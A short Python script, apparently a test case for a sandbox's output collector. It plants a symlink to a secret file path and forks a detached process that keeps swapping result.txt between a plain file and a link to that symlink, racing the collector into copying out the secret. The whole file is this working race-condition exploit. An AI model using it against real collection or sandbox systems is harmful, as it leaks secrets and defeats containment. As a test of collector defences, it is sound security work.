"""Classes 6, 49. Trades its result for a link to a secret, again and again, while it is collected.

A breach: the collector brings the secret.
"""

import os
import time
from contextlib import suppress
from pathlib import Path

Path("plain").write_text("plain")
os.symlink(os.environ["AIM_SECRET"], "link")
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 2
    while time.monotonic() < end:
        for one in ("plain", "link"):
            with suppress(OSError):
                os.link(one, "next", follow_symlinks=False)
                os.rename("next", "result.txt")
    os._exit(0)
time.sleep(0.1)
os._exit(0)
